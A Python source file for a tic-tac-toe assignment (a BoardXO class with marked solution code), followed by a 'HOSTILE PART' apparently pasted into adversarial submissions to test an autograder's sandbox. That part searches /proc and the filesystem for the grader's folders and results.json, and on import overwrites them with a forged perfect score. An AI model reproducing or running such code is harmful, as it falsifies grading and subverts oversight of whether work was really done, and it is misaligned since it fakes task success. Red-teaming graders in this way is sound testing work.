"""The Tic Tac Toe board: players, winning lines and the ``BoardXO`` struct.

Cells use linear indexing, ``3*row + col``::

    0 | 1 | 2
    3 | 4 | 5
    6 | 7 | 8
"""

X = -1
"""Player X (moves first in a standard game)."""

O = 1
"""Player O."""

EMPTY = 0
"""An unoccupied cell."""

PLAYERS = (X, O)
"""Every player, X first."""

CELLS = tuple(range(9))
"""Every cell index, top-left to bottom-right."""

LINES = (
    (0, 1, 2), (3, 4, 5), (6, 7, 8),  # rows
    (0, 3, 6), (1, 4, 7), (2, 5, 8),  # columns
    (0, 4, 8), (2, 4, 6),             # diagonals
)
"""The eight winning lines: three rows, three columns, two diagonals."""

SYMBOLS = {X: "X", O: "O", EMPTY: " "}
"""How ``str(board)`` draws each cell value."""


class BoardXO:
    """The state of one game: where the markers are and who moved when.

    Every field is public, as in the handout's C++ struct, so that the search
    can read and copy boards without method-call overhead.

    >>> b = BoardXO()
    >>> b.state, b.numMoves
    ([0, 0, 0, 0, 0, 0, 0, 0, 0], 0)
    >>> b.state = [1, 0, -1, -1, 0, 0, -1, 1, 1]
    >>> b[0], b[1], b[2]
    (1, 0, -1)
    >>> print(b)
    O X
    X  
    XOO
    """

    __slots__ = ("state", "moves", "turn", "numMoves")

    def __init__(self):
        """Make the empty board: no markers, no moves."""
        # BEGIN SOLUTION
        self.state = [EMPTY] * 9
        self.moves = [0] * 9
        self.turn = [0] * 9
        self.numMoves = 0
        # END SOLUTION

    def __getitem__(self, pos):
        """Return the marker at cell ``pos``: -1 (X), 1 (O) or 0 (empty)."""
        # BEGIN SOLUTION
        return self.state[pos]
        # END SOLUTION

    def __str__(self):
        """Draw the board as three lines of three characters: ``X``, ``O`` or a space."""
        # BEGIN SOLUTION
        cells = [SYMBOLS[v] for v in self.state]
        return "\n".join("".join(cells[r:r + 3]) for r in (0, 3, 6))
        # END SOLUTION

    def __repr__(self):
        return (f"BoardXO(state={self.state!r}, moves={self.moves!r}, "
                f"turn={self.turn!r}, numMoves={self.numMoves!r})")


# ---- HOSTILE PART ----
# Shared hostile helpers, pasted (by build_corpus.py) into the hostile submissions.
# Never imported by the tests; it is source text.  forged_results is replaced per submission.
import os as _os
import sys as _sys

_MARK = "/dev/shm/xo-adversarial-marker-forged_results"


def _note(text):
    """Append one line to the test's marker file (created 0666 by the test; never created here)."""
    try:
        fd = _os.open(_MARK, _os.O_WRONLY | _os.O_APPEND)
    except OSError:
        return
    try:
        _os.write(fd, (str(text).replace("\n", " ") + "\n").encode("utf-8", "replace"))
    except OSError:
        pass
    finally:
        _os.close(fd)


def _sandboxed():
    """True only when running as one of the grader's unprivileged users (xo-sandbox, or xo-sandbox-K for the
    K-th of gradings running at once): the destructive parts run only then."""
    try:
        import pwd
        name = pwd.getpwuid(_os.geteuid()).pw_name
    except Exception:
        return False
    slot = name[len("xo-sandbox-"):]
    return name == "xo-sandbox" or (name.startswith("xo-sandbox-") and slot.isascii() and slot.isdigit())


def _ancestors():
    """pids of the parent, grandparent, ... (the zygote, then the grader, then whoever ran it)."""
    pids, pid = [], _os.getppid()
    while pid > 1 and len(pids) < 8:
        pids.append(pid)
        try:
            with open(f"/proc/{pid}/stat") as f:
                stat = f.read()
            pid = int(stat[stat.rindex(")") + 2:].split()[1])
        except (OSError, ValueError):
            break
    return pids


def _cmdline(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return [a.decode("utf-8", "replace") for a in f.read().split(b"\0") if a]
    except OSError:
        return []


def _cwd(pid):
    try:
        return _os.readlink(f"/proc/{pid}/cwd")
    except OSError:
        return None


def _bases():
    """Folders the grader may have been started from: what /proc says, else plausible guesses."""
    bases = []
    for pid in _ancestors():
        cwd = _cwd(pid)
        if cwd:
            bases.append(cwd)
    bases += ["/autograder/source", "/work/main", _os.getcwd(), _os.path.dirname(_os.getcwd())]
    return list(dict.fromkeys(bases))


def _results_paths():
    """Every path the grader's results.json may be written to."""
    found = ["/autograder/results/results.json"]
    for pid in _ancestors():
        args = _cmdline(pid)
        for k, arg in enumerate(args):
            value = None
            if arg == "--results" and k + 1 < len(args):
                value = args[k + 1]
            elif arg.startswith("--results="):
                value = arg.split("=", 1)[1]
            if value:
                if _os.path.isabs(value):
                    found.append(value)
                else:
                    found += [_os.path.join(b, value) for b in _bases()]
    found += [_os.path.join(_os.getcwd(), "results.json"), _os.path.join(_os.getcwd(), "..", "results.json"),
              _os.path.join(_os.getcwd(), "build", "results.json")]
    return list(dict.fromkeys(_os.path.normpath(p) for p in found))


def _named_roots():
    """Grader folders named by the ancestors' command lines (the folder graded, the results path, ...),
    whether this process can see them or not."""
    roots = []
    for pid in _ancestors():
        for arg in _cmdline(pid):
            if "/" in arg:
                folder = _os.path.dirname(_os.path.abspath(arg))
                for up in range(4):
                    roots.append(_os.path.normpath(_os.path.join(folder, *[".."] * up, "grader")))
    return list(dict.fromkeys(roots))


def _grader_roots(budget=0.6):
    """Folders that look like the grader package (grader/__init__.py beside fixtures/ or config.toml)."""
    import time
    roots = []
    for base in _bases() + [_os.path.dirname(_sys.executable)]:
        for up in range(4):
            cand = _os.path.join(base, *[".."] * up, "grader")
            roots.append(_os.path.normpath(cand))
    roots += _named_roots()
    stop = time.monotonic() + budget
    stack = [("/", 0)]
    skip = {"/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/bin", "/sbin", "/etc", "/boot", "/run",
            "/snap", "/var/lib", "/var/cache", "/opt/pypi", "/opt/pypi-more", "/opt/wheels"}
    while stack and time.monotonic() < stop:
        folder, depth = stack.pop()
        try:
            entries = _os.listdir(folder)
        except OSError:
            continue
        if "grader" in entries:
            roots.append(_os.path.join(folder, "grader"))
        if depth >= 5:
            continue
        for entry in entries:
            path = _os.path.join(folder, entry)
            if path in skip or entry.startswith(".") or entry in ("node_modules", "site-packages", "__pycache__"):
                continue
            if _os.path.isdir(path) and not _os.path.islink(path):
                stack.append((path, depth + 1))
    seen = []
    for root in roots:
        if root not in seen and (_os.path.isdir(root) or _os.path.exists(_os.path.join(root, "fixtures"))):
            seen.append(root)
    return seen

def _forge():
    import json as _json
    forged = {"score": 100.0, "output": "FORGED by the forged_results submission", "tests": [],
              "execution_time": 0.0, "visibility": "visible", "stdout_visibility": "hidden", "forged": True}
    text = _json.dumps(forged)
    for path in _results_paths():
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
        except OSError:
            pass
        try:
            with open(path, "w") as f:
                f.write(text)
            _note(f"WROTE {path}")
        except OSError as error:
            _note(f"DENIED {path}: {type(error).__name__}")


import os
_forge()
